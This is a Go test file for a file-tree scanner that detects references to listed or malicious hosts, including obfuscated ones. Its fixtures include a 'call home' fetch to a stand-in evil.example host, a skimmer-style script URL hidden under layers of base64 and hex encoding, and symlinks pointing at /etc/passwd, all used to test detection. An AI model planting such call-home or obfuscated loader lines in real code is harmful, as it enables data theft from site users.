package tree_test

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"testing/fstest"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"github.com/shieldscan/shieldscan/report"
	"github.com/shieldscan/shieldscan/rules"
	"github.com/shieldscan/shieldscan/scanner"
	"github.com/shieldscan/shieldscan/scanner/tree"
)

func set(t *testing.T, resources ...string) *rules.Set {
	t.Helper()
	s := rules.NewSet()
	for _, r := range resources {
		res, err := rules.Parse(r, rules.Origin{})
		if err != nil {
			t.Fatal(err)
		}
		s.Add(res)
	}
	return s
}

func scan(t *testing.T, fsys fstest.MapFS, topts tree.Options, opts scanner.Options, resources ...string) *report.Report {
	t.Helper()
	rep, err := scanner.Scan(context.Background(), tree.New(fsys, topts), set(t, resources...), opts)
	if err != nil {
		t.Fatalf("Scan: %v", err)
	}
	return rep
}

func places(rep *report.Report) []string {
	var out []string
	for _, f := range rep.Findings {
		strength, context := "-", "-"
		if f.Strength != 0 {
			strength, context = f.Strength.String(), string(f.Context)
		}
		out = append(out, fmt.Sprintf("%s:%d:%d-%d %s %s %s %s", f.Path, f.Line, f.Column, f.EndColumn, f.Rule, f.Level, strength, context))
	}
	return out
}

func TestScanTree(t *testing.T) {
	fsys := fstest.MapFS{
		"index.html":           {Data: []byte("<html>\n  <script src=\"https://cdn.evil.example/x.js\"></script>\n</html>\n")},
		"js/app.js":            {Data: []byte("// call home\nfetch('https://api.evil.example/c?x=1');\nconst é = 'evil.example';\n")},
		"css/site.css":         {Data: []byte("body { background: url(//img.evil.example/bg.png) }\n")},
		"nginx/site.conf":      {Data: []byte("add_header X-Frame-Options DENY; # evil.example\nproxy_pass http://203.0.113.7:8080;\n")},
		"docs/README.md":       {Data: []byte("We load https://cdn.evil.example/x.js on purpose.\n")},
		".git/config":          {Data: []byte("url = https://evil.example/repo.git\n")},
		"img/logo.png":         {Data: []byte("\x89PNG\x00\x00evil.example")},
		".gitignore":           {Data: []byte("dist/\n*.log\n!keep.log\n")},
		"dist/bundle.js":       {Data: []byte("evil.example")},
		"debug.log":            {Data: []byte("evil.example")},
		"keep.log":             {Data: []byte("evil.example\n")},
		"vendor/.gitignore":    {Data: []byte("*.min.js\n")},
		"vendor/lib.min.js":    {Data: []byte("evil.example")},
		"vendor/other.example": {Data: []byte("nothing here\n")},
		"big.js":               {Data: []byte(strings.Repeat("x", 100) + "evil.example")},
	}
	rep := scan(t, fsys, tree.Options{}, scanner.Options{MaxFileSize: 100},
		"https://cdn.evil.example/x.js", "evil.example", "203.0.113.7", "gone.example.org")
	want := []string{
		"css/site.css:1:26-42 declared-reference note host css-url",
		"docs/README.md:1:9-38 declared-reference note url docs",
		"docs/README.md:1:17-33 declared-reference note host docs",
		"index.html:2:16-45 declared-reference note url html-script-src",
		"index.html:2:24-40 declared-reference note host html-script-src",
		"js/app.js:2:16-32 declared-reference note host js-network",
		"js/app.js:3:12-24 declared-reference note host other",
		"keep.log:1:1-13 declared-reference note host other",
		"nginx/site.conf:1:36-48 declared-reference note host comment",
		"nginx/site.conf:2:19-30 declared-reference note ip server-config",
		"no file associated with this alert:1:1-2 unknown-resource error - -",
	}
	if diff := cmp.Diff(want, places(rep)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	var skipped []string
	for _, s := range rep.Skipped {
		skipped = append(skipped, s.Path+" "+string(s.Reason))
	}
	if diff := cmp.Diff([]string{"big.js too-large", "img/logo.png binary"}, skipped); diff != "" {
		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
	}
	if rep.Stats.Files != 9 {
		t.Errorf("Stats.Files = %d, want 9 (ignore files are scanned too)", rep.Stats.Files)
	}
	classes := map[string]rules.Class{}
	for _, r := range rep.Resources {
		classes[r.Canonical] = r.Class
	}
	if classes["gone.example.org"] != rules.Unknown || classes["evil.example"] != rules.Declared {
		t.Errorf("classes = %v", classes)
	}
}

func TestScanNoIgnoreAndGlobs(t *testing.T) {
	fsys := fstest.MapFS{
		".gitignore":     {Data: []byte("dist/\n")},
		"dist/bundle.js": {Data: []byte("evil.example\n")},
		"src/a.js":       {Data: []byte("evil.example\n")},
		"src/a_test.js":  {Data: []byte("evil.example\n")},
		".env":           {Data: []byte("HOST=evil.example\n")},
	}
	tests := []struct {
		name  string
		topts tree.Options
		opts  scanner.Options
		want  []string
	}{
		{"default", tree.Options{}, scanner.Options{}, []string{".env", "src/a.js", "src/a_test.js"}},
		{"no-ignore", tree.Options{NoIgnore: true}, scanner.Options{}, []string{".env", "dist/bundle.js", "src/a.js", "src/a_test.js"}},
		{"include", tree.Options{}, scanner.Options{Include: []string{"src/**"}}, []string{"src/a.js", "src/a_test.js"}},
		{"exclude", tree.Options{}, scanner.Options{Exclude: []string{"**/*_test.js", ".*"}}, []string{"src/a.js"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := scan(t, fsys, tt.topts, tt.opts, "evil.example")
			var got []string
			for _, f := range rep.Findings {
				got = append(got, f.Path)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("paths mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestScanBadGlob(t *testing.T) {
	_, err := scanner.Scan(context.Background(), tree.New(fstest.MapFS{}, tree.Options{}), set(t, "evil.example"),
		scanner.Options{Exclude: []string{"src/[a"}})
	if err == nil || !strings.Contains(err.Error(), `invalid glob "src/[a"`) {
		t.Errorf("Scan with a bad glob: err = %v, want invalid glob", err)
	}
}

func TestSymlinks(t *testing.T) {
	fsys := fstest.MapFS{
		"a.js":        {Data: []byte("evil.example\n")},
		"inside.js":   {Data: []byte("a.js"), Mode: 0o777 | 1<<27},
		"outside.js":  {Data: []byte("../../etc/passwd"), Mode: 0o777 | 1<<27},
		"absolute.js": {Data: []byte("/etc/passwd"), Mode: 0o777 | 1<<27},
	}
	rep := scan(t, fsys, tree.Options{}, scanner.Options{}, "evil.example")
	var skipped []string
	for _, s := range rep.Skipped {
		skipped = append(skipped, s.Path+" "+string(s.Reason))
	}
	if diff := cmp.Diff([]string{"absolute.js symlink-outside-root", "outside.js symlink-outside-root"}, skipped); diff != "" {
		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
	}
	if len(rep.Findings) != 1 || rep.Findings[0].Path != "a.js" {
		t.Errorf("findings = %v, want one in a.js (links are not followed)", places(rep))
	}
}

func TestFingerprintsStable(t *testing.T) {
	a := fstest.MapFS{"x.js": {Data: []byte("a = 'evil.example';\nb = 'evil.example';\n")}}
	b := fstest.MapFS{"x.js": {Data: []byte("// moved down\n\na = 'evil.example';\nb = 'evil.example';\n")}}
	ra := scan(t, a, tree.Options{}, scanner.Options{}, "evil.example")
	rb := scan(t, b, tree.Options{}, scanner.Options{}, "evil.example")
	if len(ra.Findings) != 2 || len(rb.Findings) != 2 {
		t.Fatalf("findings = %v / %v", places(ra), places(rb))
	}
	if ra.Findings[0].Fingerprint == ra.Findings[1].Fingerprint {
		t.Errorf("two references on different lines share fingerprint %s", ra.Findings[0].Fingerprint)
	}
	for i := range ra.Findings {
		if ra.Findings[i].Fingerprint != rb.Findings[i].Fingerprint {
			t.Errorf("finding %d: fingerprint changed when lines moved: %s vs %s", i, ra.Findings[i].Fingerprint, rb.Findings[i].Fingerprint)
		}
	}
}

func TestFirstPartyScripts(t *testing.T) {
	fsys := fstest.MapFS{
		"public/js/checkout.js":  {Data: []byte("// our checkout\n")},
		"public/js/checkout.jsx": {Data: []byte("// not it\n")},
		"templates/layout.html":  {Data: []byte("<script src=\"/js/checkout.js\" defer></script>\n<a href=\"/js/checkout.json\">x</a>\n")},
		"other.js":               {Data: []byte("load('/other/js/checkout.js')\n")},
	}
	r, err := rules.Parse("https://shop.example.com/js/checkout.js", rules.Origin{})
	if err != nil {
		t.Fatal(err)
	}
	r.FirstParty = true
	r.PageShield = &rules.Observation{Kind: "script", Malicious: true}
	s := rules.NewSet()
	s.Add(r)
	rep, err := scanner.Scan(context.Background(), tree.New(fsys, tree.Options{}), s, scanner.Options{})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{
		"public/js/checkout.js:1:1-2 malicious-reference error path other",
		"templates/layout.html:1:14-29 malicious-reference error path html-script-src",
	}
	if diff := cmp.Diff(want, places(rep)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	if msg := rep.Findings[0].Message; !strings.Contains(msg, "injected into our own file") {
		t.Errorf("served-file message = %q, want it to say the file may be injected", msg)
	}
}

// TestOSNames reads files whose names are not valid UTF-8 (io/fs refuses them; the system
// does not), so a loader cannot hide behind a name.
func TestOSNames(t *testing.T) {
	dir := t.TempDir()
	name := "bad\xfe.js"
	if err := os.WriteFile(filepath.Join(dir, name), []byte("load('https://evil.example/x.js')\n"), 0o644); err != nil {
		t.Skipf("this file system refuses the name: %v", err)
	}
	rep, err := scanner.Scan(context.Background(), tree.New(os.DirFS(dir), tree.Options{Dir: dir}), set(t, "evil.example"), scanner.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Findings) != 1 || rep.Findings[0].Path != name || len(rep.Skipped) != 0 {
		t.Errorf("findings %v, skipped %v: want one reference in %q", places(rep), rep.Skipped, name)
	}
}

// TestParentIgnores applies the ignore files of the work tree above a scanned subdirectory.
func TestParentIgnores(t *testing.T) {
	top := fstest.MapFS{
		".git/info/exclude": {Data: []byte("tmp/\n")},
		".gitignore":        {Data: []byte("dist/\n")},
		"web/.gitignore":    {Data: []byte("*.log\n")},
		"web/a.js":          {Data: []byte("evil.example\n")},
		"web/dist/b.js":     {Data: []byte("evil.example\n")},
		"web/tmp/c.js":      {Data: []byte("evil.example\n")},
		"web/d.log":         {Data: []byte("evil.example\n")},
	}
	web, err := fs.Sub(top, "web")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := scanner.Scan(context.Background(), tree.New(web, tree.Options{Top: top, Base: []string{"web"}}), set(t, "evil.example"), scanner.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{"a.js:1:1-13 declared-reference note host other"}, places(rep)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
}

func TestBOMColumn(t *testing.T) {
	fsys := fstest.MapFS{"a.js": {Data: []byte("\uFEFFx='evil.example';\r\ny='evil.example';\r\n")}}
	rep := scan(t, fsys, tree.Options{}, scanner.Options{}, "evil.example")
	want := []string{"a.js:1:4-16 declared-reference note host other", "a.js:2:4-16 declared-reference note host other"}
	if diff := cmp.Diff(want, places(rep)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	if s := rep.Findings[0].Snippet; s != "x='evil.example';" {
		t.Errorf("snippet = %q, want no byte-order mark and no CR", s)
	}
}

// TestIgnoredRootScanned: a directory the user names is scanned even when the work tree ignores it.
func TestIgnoredRootScanned(t *testing.T) {
	top := fstest.MapFS{
		".gitignore":          {Data: []byte("/bench/out/\n")},
		"bench/out/tree/a.js": {Data: []byte("evil.example\n")},
	}
	root, err := fs.Sub(top, "bench/out/tree")
	if err != nil {
		t.Fatal(err)
	}
	rep, err := scanner.Scan(context.Background(), tree.New(root, tree.Options{Top: top, Base: []string{"bench", "out", "tree"}}), set(t, "evil.example"), scanner.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Findings) != 1 {
		t.Errorf("findings = %v, want the reference in the named directory", places(rep))
	}
}

// hexEscape spells every byte of s as \xHH.
func hexEscape(s string) string {
	var b strings.Builder
	for i := range len(s) {
		fmt.Fprintf(&b, `\x%02x`, s[i])
	}
	return b.String()
}

// TestDecodeLimits: a reference past the decoder's literal window is found, and a limit that is
// still reached (an encoding nested deeper than the layers decoded) is listed as a partial
// decode-limit skip with its line, never passed over in silence.
func TestDecodeLimits(t *testing.T) {
	const url = "https://skim.evil-cdn.example/c.js"
	deep := url // 10 layers alternating atob('…') and an escaped literal
	for k := range 10 {
		if k%2 == 0 {
			deep = "atob('" + base64.StdEncoding.EncodeToString([]byte(deep)) + "')"
		} else {
			deep = "'" + hexEscape(deep) + "'"
		}
	}
	nest := url
	for range 30 {
		nest = base64.StdEncoding.EncodeToString([]byte(nest))
	}
	fsys := fstest.MapFS{
		"long.js":   {Data: []byte("var a = 1;\nvar b = '" + strings.Repeat(`\x41`, 1<<18) + hexEscape(url) + "';\n")},
		"uni.js":    {Data: []byte("var b = \"" + strings.Repeat(`\u0041`, 1<<18+1) + hexEscape(url) + "\";\n")},
		"nest30.js": {Data: []byte("// thirty layers\nx = '" + nest + "';\n")},
		"deep.js":   {Data: []byte("// ten layers\nx = " + deep + ";\n")},
	}
	rep := scan(t, fsys, tree.Options{}, scanner.Options{Decode: true}, url)
	want := []string{
		"long.js:2:10-1048722 encoded-reference error url other",
		"nest30.js:2:6-216722 encoded-reference error url other",
		"uni.js:1:10-1573016 encoded-reference error url other",
	}
	if diff := cmp.Diff(want, places(rep)); diff != "" {
		t.Errorf("findings mismatch (-want +got):\n%s", diff)
	}
	wantSkips := []report.Skip{{Path: "deep.js", Reason: scanner.SkipDecodeLimit,
		Detail: "scanned for plain references; decoding stopped at line 2 (depth: encoded text nested deeper than the layers decoded)"}}
	if diff := cmp.Diff(wantSkips, rep.Skipped); diff != "" {
		t.Errorf("skipped mismatch (-want +got):\n%s", diff)
	}
}

// utf16or32 spells s in UTF-16 (width 2) or UTF-32 (width 4), little or big endian, with a
// byte-order mark when bom is set.
func utf16or32(s string, width int, bigEndian, bom bool) []byte {
	var order binary.AppendByteOrder = binary.LittleEndian
	if bigEndian {
		order = binary.BigEndian
	}
	if bom {
		s = "\uFEFF" + s
	}
	var out []byte
	for _, r := range s {
		switch {
		case width == 4:
			out = order.AppendUint32(out, uint32(r))
		case r >= 0x10000:
			r1, r2 := utf16.EncodeRune(r)
			out = order.AppendUint16(order.AppendUint16(out, uint16(r1)), uint16(r2))
		default:
			out = order.AppendUint16(out, uint16(r))
		}
	}
	return out
}

// TestUnicodeFiles: UTF-16 and UTF-32 files are scanned as text, plain and encoded references
// alike, at the lines and columns of the file's own characters (an emoji is one column, as in
// a UTF-8 file; a byte-order mark none).
func TestUnicodeFiles(t *testing.T) {
	t.Parallel()
	text := "x = 1;\n// é ünïcode 😀 line\r\nlet u = '😀'; fetch('https://evil.example/a.js');\n" +
		"var 名 = atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYS5qcw==');\n"
	want := []string{
		"f.js:3:21-46 declared-reference note url js-network",
		"f.js:4:9-53 encoded-reference error url other",
	}
	tests := []struct {
		name string
		data []byte
	}{
		{"utf-8", []byte(text)},
		{"utf-8 with bom", []byte("\uFEFF" + text)},
		{"utf-16le with bom", utf16or32(text, 2, false, true)},
		{"utf-16be with bom", utf16or32(text, 2, true, true)},
		{"utf-16le without bom", utf16or32(text, 2, false, false)},
		{"utf-16be without bom", utf16or32(text, 2, true, false)},
		{"utf-32le with bom", utf16or32(text, 4, false, true)},
		{"utf-32be with bom", utf16or32(text, 4, true, true)},
		{"utf-32le without bom", utf16or32(text, 4, false, false)},
		{"utf-32be without bom", utf16or32(text, 4, true, false)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			fsys := fstest.MapFS{
				"f.js":     {Data: tt.data},
				"logo.png": {Data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR https://evil.example/a.js")},
			}
			rep := scan(t, fsys, tree.Options{}, scanner.Options{Decode: true}, "https://evil.example/a.js")
			if diff := cmp.Diff(want, places(rep)); diff != "" {
				t.Errorf("findings mismatch (-want +got):\n%s", diff)
			}
			wantSkips := []report.Skip{{Path: "logo.png", Reason: scanner.SkipBinary, Detail: "NUL byte in the first 8 KiB"}}
			if diff := cmp.Diff(wantSkips, rep.Skipped); diff != "" {
				t.Errorf("skipped mismatch (-want +got):\n%s", diff)
			}
			if got, want := rep.Findings[0].Snippet, "let u = '😀'; fetch('https://evil.example/a.js');"; got != want {
				t.Errorf("snippet = %q, want %q", got, want)
			}
		})
	}
}

func blob(data []byte) scanner.Blob {
	return scanner.Blob{Path: "f", Size: int64(len(data)), Load: func(*[]byte, int64) ([]byte, error) { return data, nil }}
}

// TestReadUnicode: UTF-16 and UTF-32 text is read as UTF-8, without its byte-order mark; genuine
// binaries stay binary.
func TestReadUnicode(t *testing.T) {
	t.Parallel()
	text := "x = 1;\n// é ünïcode 😀 line\r\nfetch('https://evil.example/a.js');\n"
	cjk := "var 名前 = '値'; // 日本語のコメント\n"
	tests := []struct {
		name string
		in   []byte
		want string // "" for binary
	}{
		{"utf-8", []byte(text), text},
		{"utf-16le with bom", utf16or32(text, 2, false, true), text},
		{"utf-16be with bom", utf16or32(text, 2, true, true), text},
		{"utf-16le without bom", utf16or32(text, 2, false, false), text},
		{"utf-16be without bom", utf16or32(text, 2, true, false), text},
		{"utf-32le with bom", utf16or32(text, 4, false, true), text},
		{"utf-32be with bom", utf16or32(text, 4, true, true), text},
		{"utf-32le without bom", utf16or32(text, 4, false, false), text},
		{"utf-32be without bom", utf16or32(text, 4, true, false), text},
		{"utf-16le cjk with bom", utf16or32(cjk, 2, false, true), cjk},
		{"utf-16be cjk with bom", utf16or32(cjk, 2, true, true), cjk},
		{"utf-16 past the sniffed head", utf16or32(strings.Repeat("a = 'b';\n", 1000)+"😀 evil.example\n", 2, false, false),
			strings.Repeat("a = 'b';\n", 1000) + "😀 evil.example\n"},
		{"utf-16 with a lone surrogate past the head", append(utf16or32(strings.Repeat("ab\n", 2000), 2, false, true), 0x00, 0xD8, 'c', 0),
			strings.Repeat("ab\n", 2000) + "\uFFFDc"},
		{"png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa"), ""},
		{"elf", []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00\x01\x00\x00\x00"), ""},
		{"nul run", []byte("abc\x00\x00\x00\x00def"), ""},
		{"utf-16 with a NUL character", utf16or32("ab\x00cd\n", 2, false, false), ""},
		{"utf-16 bom then binary", []byte{0xFF, 0xFE, 'a', 0, 0, 0, 1, 2, 3, 0}, ""},
		{"utf-32 bom then binary", []byte{0xFF, 0xFE, 0, 0, 0, 0, 0x11, 0, 1, 2, 3, 4}, ""},
		{"utf-16 without bom, odd length", append(utf16or32("abcdef\n", 2, false, false), 'x'), ""},
		{"utf-16 without bom, mostly non-latin", utf16or32("名前名前名前 ab", 2, false, false), ""},
		{"control characters", utf16or32("ab\x01\x02\x03\n", 2, false, false), ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			data, skip, why := scanner.Read(blob(tt.in), scanner.DefaultMaxFileSize, nil)
			if tt.want == "" {
				if skip != scanner.SkipBinary {
					t.Errorf("Read(%q) = %q, %q, %q, want skip %q", tt.in, data, skip, why, scanner.SkipBinary)
				}
				return
			}
			if skip != "" {
				t.Fatalf("Read(%q) skipped: %s (%s)", tt.in, skip, why)
			}
			if diff := cmp.Diff(tt.want, string(data)); diff != "" {
				t.Errorf("Read(%s) mismatch (-want +got):\n%s", tt.name, diff)
			}
		})
	}
}

// Files read into one reused buffer come back whole, whatever their sizes and order, and a file
// that changed size after the walk is read as it is now.
func TestLoadIntoBuffer(t *testing.T) {
	dir := t.TempDir()
	files := map[string]string{
		"a.js":     strings.Repeat("a", 5000),
		"b.js":     "bb",
		"c.js":     "",
		"d.js":     strings.Repeat("d", 4096),
		"e.js":     strings.Repeat("e", 70000),
		"f/g.html": "<p>g</p>",
	}
	for name, text := range files {
		p := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var blobs []scanner.Blob
	src := tree.New(os.DirFS(dir), tree.Options{Dir: dir})
	if err := src.Walk(t.Context(), func(b scanner.Blob) error { blobs = append(blobs, b); return nil }); err != nil {
		t.Fatal(err)
	}
	// After the walk: one file grows past its walked size, one shrinks.
	files["b.js"] = strings.Repeat("B", 10000)
	files["d.js"] = "d"
	for _, name := range []string{"b.js", "d.js"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(files[name]), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var buf []byte
	for _, order := range [][]int{{0, 1, 2, 3, 4, 5}, {5, 4, 3, 2, 1, 0}} {
		for _, i := range order {
			b := blobs[i]
			data, err := b.Load(&buf, scanner.DefaultMaxFileSize)
			if err != nil {
				t.Fatalf("Load(%s): %v", b.Path, err)
			}
			if string(data) != files[b.Path] {
				t.Errorf("Load(%s) = %d bytes %.10q…, want %d bytes %.10q…", b.Path, len(data), data, len(files[b.Path]), files[b.Path])
			}
			if len(data) > 0 && cap(buf) > 0 && &data[0] != &buf[:1][0] {
				t.Errorf("Load(%s) did not read into the buffer it was given", b.Path)
			}
		}
	}
	if err := os.Remove(filepath.Join(dir, "f", "g.html")); err != nil {
		t.Fatal(err)
	}
	if _, err := blobs[5].Load(&buf, scanner.DefaultMaxFileSize); err == nil {
		t.Errorf("Load(%s) of a removed file: no error", blobs[5].Path)
	}
}

// With MaxFileSize, a larger file is a too-large skip that names its size, whether it is larger
// than a read buffer or not, and a file of the limit's size or under it is scanned whole.
func TestMaxFileSize(t *testing.T) {
	ref := "load('https://evil.example/x.js')\n"
	tests := []struct {
		name  string
		size  int // bytes of padding before the reference
		limit int64
		skip  string
	}{
		{"small, under", 10, 1000, ""},
		{"small, at the limit", 1000 - len(ref), 1000, ""},
		{"small, over", 1000, 1000, fmt.Sprintf("%d bytes, over --max-file-size 1000", 1000+len(ref))},
		{"large, under", 300 << 10, 1 << 20, ""},
		{"large, at the limit", 1<<20 - len(ref), 1 << 20, ""},
		{"large, over", 1 << 20, 1 << 20, fmt.Sprintf("%d bytes, over --max-file-size %d", 1<<20+len(ref), 1<<20)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			text := strings.Repeat("/", tt.size) + ref
			if err := os.WriteFile(filepath.Join(dir, "a.js"), []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			// Through package os (as the CLI reads) and through io/fs.
			for _, opts := range []tree.Options{{Dir: dir}, {}} {
				src := tree.New(os.DirFS(dir), opts)
				rep, err := scanner.Scan(t.Context(), src, set(t, "evil.example"), scanner.Options{MaxFileSize: tt.limit})
				if err != nil {
					t.Fatal(err)
				}
				var got string
				for _, s := range rep.Skipped {
					got += string(s.Reason) + ": " + s.Detail
				}
				want := ""
				if tt.skip != "" {
					want = "too-large: " + tt.skip
				}
				if got != want {
					t.Errorf("Dir %q: skipped %q, want %q", opts.Dir, got, want)
				}
				if found := rep.Stats.Files == 1 && len(places(rep)) == 1; found != (tt.skip == "") {
					t.Errorf("Dir %q: scanned %d files, findings %v; want the reference found only when under the limit", opts.Dir, rep.Stats.Files, places(rep))
				}
			}
		})
	}
}
